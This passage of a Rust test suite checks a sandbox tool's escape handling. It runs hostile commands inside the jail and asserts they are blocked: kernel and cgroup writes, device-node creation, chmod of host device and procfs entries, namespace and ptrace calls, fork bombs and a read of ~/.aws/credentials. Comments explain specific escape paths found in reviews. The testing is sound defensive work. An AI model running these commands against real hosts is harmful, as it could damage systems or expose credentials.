    let o = e.sh("default", "echo 42 > /proc/sys/kernel/panic");
    o.assert_violation("fs.write");
    assert_eq!(std::fs::read_to_string("/proc/sys/kernel/panic").unwrap(), before);
}

#[test]
fn cgroup_write_is_blocked_and_reported() {
    let e = env();
    let o = e.sh("default", "echo $$ > /sys/fs/cgroup/cgroup.procs && echo ESCAPED into the root cgroup");
    // The shell was never moved: the write failed or the task died first.
    o.assert_blocked("fs.write");
}

#[test]
fn device_node_creation_is_blocked_and_reported() {
    let e = env();
    let o = e.attack(&["mknod", "mem"]);
    o.assert_violation("syscall.device_nodes");
    assert!(!e.ws.join("mem").exists());
}

/// Restores a host file's mode and mtime, whatever the test did.
struct RestoreMeta {
    path: &'static str,
    mode: u32,
    mtime: (i64, i64),
}

impl RestoreMeta {
    fn save(path: &'static str) -> Self {
        let m = std::fs::metadata(path).unwrap();
        RestoreMeta { path, mode: m.mode() & 0o7777, mtime: (m.mtime(), m.mtime_nsec()) }
    }
}

impl Drop for RestoreMeta {
    fn drop(&mut self) {
        let _ = std::fs::set_permissions(self.path, std::fs::Permissions::from_mode(self.mode));
        let _ = Command::new("touch")
            .arg("-m")
            .arg("-d")
            .arg(format!("@{}.{:09}", self.mtime.0, self.mtime.1))
            .arg(self.path)
            .status();
    }
}

/// ESCAPE (root invoker). The six device nodes are bound into /dev without
/// MS_RDONLY (rootfs.rs mount_dev) and the supervisor treats them as writable
/// files (jail/decide.rs write_allowed: writable_files), so chmod/utimes reach the
/// HOST's device inode: the task (kernel uid 0, owner of /dev/full) changes the
/// host's /dev/full mode and mtime (`chmod 000 /dev/null` would break the host).
#[test]
fn review_device_node_chmod_does_not_reach_the_host() {
    assert!(is_root(), "the suite runs as root (a root invoker owns the host's device nodes)");
    let _restore = RestoreMeta::save("/dev/full");
    let before = std::fs::metadata("/dev/full").unwrap();
    let e = env();
    let o = e.sh("default", "chmod 0640 /dev/full; echo chmod=$?; touch -m -d 2001-01-01 /dev/full; echo touch=$?");
    let after = std::fs::metadata("/dev/full").unwrap();
    assert_eq!(after.mode(), before.mode(), "the host's /dev/full mode changed\n{}", o.all_output());
    assert_eq!(after.mtime(), before.mtime(), "the host's /dev/full mtime changed\n{}", o.all_output());
    o.assert_violation("fs.write");
}

/// The mode of /proc/timer_list as a freshly mounted procfs sees it (what every
/// new procfs instance, i.e. the rest of the host, gets).
fn fresh_proc_mode(entry: &str) -> Option<String> {
    let o = Command::new("unshare").args(["-pfm", "--mount-proc", "stat", "-c", "%a", entry]).output().ok()?;
    o.status.success().then(|| String::from_utf8_lossy(&o.stdout).trim().to_string())
}

/// ESCAPE (root invoker). /proc is mounted without MS_RDONLY, landlock does not
/// cover setattr, and the supervisor waves through any path below /proc/self/fd
/// (jail/decide.rs write_allowed). O_PATH needs no permission, so the task chmods a
/// global procfs entry through /proc/self/fd/N: proc_notify_change stores the mode
/// in the shared proc_dir_entry, so every procfs instance on the host sees it
/// (with /proc/sysrq-trigger, 0200 -> 0222 would let any host user reboot it).
#[test]
fn review_proc_entry_chmod_through_proc_self_fd_does_not_reach_the_host() {
    const ENTRY: &str = "/proc/timer_list";
    assert!(is_root() && Path::new(ENTRY).exists(), "needs a root invoker and {ENTRY}");
    let before = fresh_proc_mode(ENTRY).expect("mount a fresh procfs to observe the host's view");
    struct Restore(u32);
    impl Drop for Restore {
        fn drop(&mut self) {
            let _ = std::fs::set_permissions(ENTRY, std::fs::Permissions::from_mode(self.0));
        }
    }
    let _restore = Restore(u32::from_str_radix(&before, 8).unwrap());
    let e = env();
    let o = e.attack(&["opath-chmod", ENTRY, "0440"]);
    let after = fresh_proc_mode(ENTRY).unwrap();
    assert_eq!(after, before, "the host-wide mode of {ENTRY} changed\n{}", o.all_output());
    o.assert_violation("fs.write");
}

#[test]
fn setuid_binary_exec_is_blocked_and_reported() {
    let e = env();
    let o = e.run("default", &["/usr/bin/su", "-c", "id"]);
    assert!(!o.stdout.contains("uid=0"), "su ran a command as root: {}", o.stdout);
    o.assert_violation("exec.setuid");
}

// ---- processes and kernel interfaces ------------------------------------

#[test]
fn ptrace_is_blocked_and_reported() {
    env().attack(&["ptrace"]).assert_blocked("syscall.ptrace");
}

#[test]
fn mount_is_blocked_and_reported() {
    env().attack(&["mount"]).assert_blocked("syscall.mount");
}

#[test]
fn chroot_is_blocked_and_reported() {
    env().attack(&["chroot"]).assert_blocked("syscall.mount");
}

/// Sweep 90, F5: CPython's test_os asks `os.chroot` of a path that does not
/// exist and expects the kernel's ENOENT, which an unprivileged caller gets
/// before any privilege check: so answered, no violation. A chroot into an
/// existing directory stays `syscall.mount` (exit 4), and nothing after it
/// runs.
#[test]
fn chroot_of_a_missing_path_is_enoent_and_no_violation() {
    let e = env();
    let script = "import errno, os\n\
                  for p in ('/nonexistent-s90', '/usr/nonexistent-s90/x', ''):\n\
                  \x20   try:\n\
                  \x20       os.chroot(p)\n\
                  \x20   except OSError as err:\n\
                  \x20       print(repr(p), errno.errorcode[err.errno])\n";
    let o = e.run("default", &["/usr/bin/python3", "-c", script]);
    o.assert_ok();
    assert_eq!(o.stdout, "'/nonexistent-s90' ENOENT\n'/usr/nonexistent-s90/x' ENOENT\n'' ENOENT\n", "{}", o.all());
    let o = e.run("default", &["/usr/bin/python3", "-c", "import os; os.chroot('/tmp'); print('CHROOTED')"]);
    assert_eq!(o.code, 4, "{}", o.all());
    assert!(!o.stdout.contains("CHROOTED"), "{}", o.all());
    o.assert_violation("syscall.mount");
}

#[test]
fn unshare_is_blocked_and_reported() {
    env().attack(&["unshare"]).assert_blocked("syscall.namespaces");
}

#[test]
fn setns_is_blocked_and_reported() {
    env().attack(&["setns"]).assert_blocked("syscall.namespaces");
}

#[test]
fn clone_into_a_new_namespace_is_blocked_and_reported() {
    env().attack(&["clone-ns"]).assert_blocked("syscall.namespaces");
}

#[test]
fn review_clone_vfork_newuser_is_reported() {
    let e = env();
    e.attack(&["vfork-newuser"]).assert_blocked("syscall.namespaces");
}

#[test]
fn review_unshare_binary_is_reported() {
    let e = env();
    let o = e.sh("default", "unshare -U -r id");
    assert!(!o.stdout.contains("uid=0"), "the task became root of a new user namespace: {}", o.stdout);
    o.assert_violation("syscall.namespaces");
}

#[test]
fn io_uring_is_blocked_and_reported() {
    env().attack(&["io_uring"]).assert_blocked("syscall.io_uring");
}

#[test]
fn bpf_is_blocked_and_reported() {
    env().attack(&["bpf"]).assert_blocked("syscall.bpf");
}

#[test]
fn keyring_is_blocked_and_reported() {
    env().attack(&["keyctl"]).assert_blocked("syscall.keyring");
}

#[test]
fn userfaultfd_is_blocked_and_reported() {
    env().attack(&["userfaultfd"]).assert_blocked("syscall.userfaultfd");
}

#[test]
fn perf_event_open_is_blocked_and_reported() {
    env().attack(&["perf"]).assert_blocked("syscall.perf");
}

#[test]
fn terminal_injection_is_blocked_and_reported() {
    env().attack(&["tiocsti"]).assert_blocked("syscall.tty_injection");
}

#[test]
fn x32_syscalls_kill_the_task_and_are_reported() {
    env().attack(&["x32"]).assert_blocked("seccomp.abi");
}

#[test]
fn the_jail_init_cannot_be_killed_or_traced() {
    // Blocked by landlock signal scoping / pid-1 protection; not reported (SECURITY.md).
    let e = env();
    let o = e.run("default", &["./attack", "kill-init"]);
    assert!(o.stdout.contains("blocked kill pid 1"), "{}", o.stdout);
    assert_eq!(o.code, 0, "{}", o.stderr);
    env().attack(&["ptrace-init"]).assert_blocked("syscall.ptrace");
}

// ---- secrets and descriptors ---------------------------------------------

#[test]
fn the_orchestrators_environment_never_reaches_the_task() {
    // Nothing to observe: the variable does not exist in the task (SECURITY.md).
    let e = env();
    let o = e.sh("default", "env; cat /proc/1/environ 2>&1; cat /proc/$$/environ | tr '\\0' '\\n'");
    assert!(!o.all_output().contains(ENV_CANARY), "{}", o.stdout);
    assert!(!o.all_output().contains("ORCHESTRA_AUDIT_KEY"), "{}", o.stdout);
}

#[test]
fn descriptors_of_the_parent_do_not_leak_into_the_task() {
    let e = env();
    let secret = e.root.join("secret-fd");
    std::fs::write(&secret, SSH_CANARY).unwrap();
    let mut c = std::process::Command::new("/bin/sh");
    let cmdline = format!(
        "exec 7<{} 8>{}/fd8; exec {} exec --report {}/report.json -- ./attack fds",
        secret.display(),
        e.root.display(),
        orchestra().display(),
        e.root.display()
    );
    c.arg("-c").arg(cmdline).current_dir(&e.ws).env("HOME", &e.home);
    let o = e.run_cmd(c);
    assert!(o.stdout.contains("no leaked fds"), "{}", o.stdout);
    o.assert_ok();
}

// ---- resources -------------------------------------------------------------

#[test]
fn fork_bomb_is_stopped_and_reported() {
    let e = env();
    let p = e.policy("pids", "limits:\n  pids: 64\ntimeouts:\n  wall: 20s\n");
    let o = e.run(&p, &["./attack", "forkbomb"]);
    o.assert_violation("limits.pids");
    assert!(!o.stdout.contains("ESCAPED"));
    std::thread::sleep(Duration::from_millis(200));
    assert!(processes_with(&format!("{}/attack", e.ws.display())).is_empty());
}

#[test]
fn memory_hog_is_stopped_and_reported() {
    let e = env();
    let p = e.policy("mem", "limits:\n  memory: 128MiB\n");
    let o = e.run(&p, &["./attack", "memhog", "2048"]);
    o.assert_violation("limits.memory");
    assert!(!o.stdout.contains("ESCAPED"));
}

#[test]
fn output_flood_is_cut_and_reported() {
    let e = env();
    let p = e.policy("out", "limits:\n  output: 1MiB\n");
    let o = e.run(&p, &["yes", "flood"]);
    o.assert_violation("limits.output");
    assert!(o.stdout.len() <= 1 << 20, "relayed {} bytes", o.stdout.len());
}

#[test]
fn disk_filler_is_stopped_and_reported() {
    let e = env();
    let p = e.policy("disk", "limits:\n  disk: 8MiB\n");
    let o = e.sh(&p, "head -c 100000000 /dev/zero > big");
    o.assert_violation("limits.disk");
    let size = std::fs::metadata(e.ws.join("big")).map(|m| m.len()).unwrap_or(0);
    assert!(size <= 8 << 20, "wrote {size} bytes");
}

#[test]
fn a_daemon_does_not_outlive_the_timeout() {
    let e = env();
    let script = "(setsid sh -c 'while :; do echo tick >> daemon.log; sleep 0.05; done' &); sleep 60";
    let o = e.run_cmd(e.cmd("default", &["--timeout", "1s"], &["/bin/sh", "-c", script]));
    assert_eq!(o.code, 3, "{}", o.stderr);
    assert_eq!(o.report["cause"], "timeout");
    let len = |p: &std::path::Path| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
    let before = len(&e.ws.join("daemon.log"));
    assert!(before > 0, "the daemon never ran");
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(len(&e.ws.join("daemon.log")), before, "the daemon survived the task");
}

#[test]
fn a_daemon_does_not_outlive_a_task_that_exits() {
    let e = env();
    let script = "(setsid sh -c 'while :; do echo tick >> daemon.log; sleep 0.05; done' &); sleep 0.3; exit 0";
    let o = e.sh("default", script);
    o.assert_ok();
    let len = |p: &std::path::Path| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
    let before = len(&e.ws.join("daemon.log"));
    std::thread::sleep(Duration::from_millis(400));
    assert_eq!(len(&e.ws.join("daemon.log")), before, "the daemon survived the task");
}

// ---- the orchestrator killed ---------------------------------------------
// SECURITY.md §2.10: PDEATHSIG and a pidfd of `orchestra exec` tie the init to
// it. Whenever exec dies, the init and the task die too: nothing runs on
// without a timeout, and no stray copy of exec keeps its descriptors (the
// key ring's lock, which `audit rotate` waits for).

/// The pid of `pid`'s first child, once it has one.
fn first_child(pid: u32, limit: Duration) -> Option<u32> {
    let mut found = None;
    wait_until(limit, || {
        found = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
            .ok()
            .and_then(|s| s.split_whitespace().next().and_then(|c| c.parse().ok()));
        found.is_some()
    });
    found
}

/// `orchestra audit rotate` in the workspace ends within `limit` with exit 0:
/// no stray process holds the key ring's lock.
#[track_caller]
fn rotate_completes(e: &Env, limit: Duration) {
    let mut c = e.command();
    c.args(["audit", "rotate"]).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let (o, took) = wait_child(c.spawn().unwrap(), limit);
    assert_eq!(o.code, 0, "audit rotate after {took:?}\n{}", o.all());
}

/// Review 31, finding 2a: with the clone's child slowed down (as a busy host
/// does), `kill -9` of exec before the plan was sent left the init blocked in
/// the sync pipe's read forever: `getppid()` reads 0 in a new pid namespace,
/// so the PDEATHSIG race check never fired, and the child held its own copy
/// of the pipe's write end. It kept the key ring's lock: `audit rotate` hung.
#[test]
fn review31_exec_killed_right_after_the_clone_leaves_no_init() {
    let e = env();
    e.sh("default", "true").assert_ok(); // the log exists, for rotate
    let marker = "review31-early-kill-c4d1";
    let mut c = e.cmd("default", &[], &["/bin/sh", "-c", &format!("touch SIDE # {marker}")]);
    c.env("LD_PRELOAD", slowclone_so())
        .env("SLOWCLONE_CHILD_MS", "1000")
        .env("SLOWCLONE_PARENT_MS", "300")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut exec = c.spawn().unwrap();
    let init = first_child(exec.id(), Duration::from_secs(10)).expect("exec never cloned its init");
    send_signal(&exec, nix::sys::signal::Signal::SIGKILL);
    let _ = exec.wait();
    let left = survivors(marker, Duration::from_secs(5));
    assert!(left.is_empty(), "the init {init} outlived exec: {left:?}");
    assert!(!e.ws.join("SIDE").exists(), "the task ran after exec died");
    rotate_completes(&e, Duration::from_secs(20));
}

/// Review 31, finding 2b: exec killed after it sent `go`, while its slowed
/// child had not yet armed PDEATHSIG: the task ran on past its timeout, with
/// orchestra long dead.
#[test]
fn review31_exec_killed_after_go_leaves_no_task_running() {
    let e = env();
    let marker = "review31-late-kill-9b2e";
    let script = format!("sleep 3; touch LATE # {marker}");
    let mut c = e.cmd("default", &["--timeout", "2s"], &["/bin/sh", "-c", &script]);
    c.env("LD_PRELOAD", slowclone_so())
        .env("SLOWCLONE_CHILD_MS", "1000")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut exec = c.spawn().unwrap();
    first_child(exec.id(), Duration::from_secs(10)).expect("exec never cloned its init");
    std::thread::sleep(Duration::from_millis(400));
    send_signal(&exec, nix::sys::signal::Signal::SIGKILL);
    let _ = exec.wait();
    let left = survivors(marker, Duration::from_secs(5));
    assert!(left.is_empty(), "the jail outlived exec: {left:?}");
    std::thread::sleep(Duration::from_secs(3));
    assert!(!e.ws.join("LATE").exists(), "the task ran on after exec died");
}

/// Review 31, finding 2 as it happens without any helper (2 in 510 kills):
/// exec killed at 60 points spread over its first 90 ms. No process of the
/// jail is left, and the key ring's lock is free.
#[test]
fn review31_exec_killed_at_any_point_leaves_nothing_running() {
    let e = env();
    e.sh("default", "true").assert_ok(); // the log exists, for rotate
    let marker = "review31-kill-loop-51fa";
    for i in 0..60u64 {
        let script = format!("touch m{i}; sleep 0.3 # {marker}");
        let mut c = e.cmd("default", &[], &["/bin/sh", "-c", &script]);
        c.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
        let mut exec = c.spawn().unwrap();
        // A fixed spread (7 is prime to 90): every point of the start is hit.
        std::thread::sleep(Duration::from_millis(i * 7 % 90));
        send_signal(&exec, nix::sys::signal::Signal::SIGKILL);
        let _ = exec.wait();
    }
    let left = survivors(marker, Duration::from_secs(10));
    assert!(left.is_empty(), "processes outlived exec: {left:?}");
    rotate_completes(&e, Duration::from_secs(20));
}

#[test]
fn stdin_is_passed_through() {
    let e = env();
    let mut c = e.cmd("default", &[], &["/bin/cat"]);
    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
    let mut child = c.spawn().unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"through the jail\n").unwrap();
    }
    let mut s = String::new();
    child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(s, "through the jail\n");
}

/// Past the report's cap of 256 listed violations, the first violation of
/// each rule not yet listed is still listed: a task that repeats one denied
/// call hundreds of times (here 300 writes into /etc under `on_violation:
/// deny`) does not hide what it did next (a canary read). Cold CI of
/// 2026-12-07 lost `limits.disk` behind 256 `fs.setuid` this way. Exit 4,
/// both rules and `report.truncated` listed, /etc unchanged.
#[test]
fn a_new_rule_past_the_report_cap_is_still_listed() {
    let e = env();
    let p = e.policy("deny-all", "version: 1\non_violation: deny\n");
    let script =
        "for i in $(seq 300); do echo > /etc/orchestra-cap-$i 2>/dev/null; done; cat ~/.aws/credentials > /dev/null";
    let o = e.run(&p, &["/bin/sh", "-c", script]);
    assert_eq!(o.code, 4, "{}", o.all());
    o.assert_violation("fs.write");
    o.assert_violation("report.truncated");
    o.assert_violation("canary.read");
    assert!(
        !std::path::Path::new("/etc/orchestra-cap-1").exists()
            && !std::path::Path::new("/etc/orchestra-cap-300").exists()
    );
}

/// The jail's devpts is an instance of its own (`newinstance`): the host's
/// terminals are not in it, whatever their numbers. A task writing to every
/// /dev/pts/N up to the host terminal's number reaches nothing: the host's
/// terminal receives no byte, the task sees only `ptmx`, and the failed
/// opens name no real file (exit 0, no violation — nothing it could reach).
#[test]
fn the_host_s_terminals_are_not_in_the_jail_s_devpts() {
    use std::os::fd::AsRawFd;
    let e = env();
    let pty = nix::pty::openpty(None, None).expect("a host terminal");
    let slave = std::fs::read_link(format!("/proc/self/fd/{}", pty.slave.as_raw_fd())).expect("its name");
    let n: u32 = slave.file_name().and_then(|n| n.to_str()).and_then(|n| n.parse().ok()).expect("a /dev/pts/N");
    let o = e.sh(
        "default",
        &format!("for i in $(seq 0 {}); do printf INJECT 2>/dev/null > /dev/pts/$i; done; ls /dev/pts", n + 2),
    );
    o.assert_ok();
    assert_eq!(o.stdout, "ptmx\n", "the jail's devpts shows only its ptmx");
    nix::fcntl::fcntl(&pty.master, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).expect("nonblock");
    let mut master = std::fs::File::from(pty.master);
    let mut buf = [0u8; 64];
    let got = master.read(&mut buf);
    assert!(
        matches!(&got, Err(err) if err.kind() == std::io::ErrorKind::WouldBlock),
        "the host's terminal {} received {got:?}: {:?}",
        slave.display(),
        got.as_ref().map(|n| String::from_utf8_lossy(&buf[..*n]).to_string())
    );
}
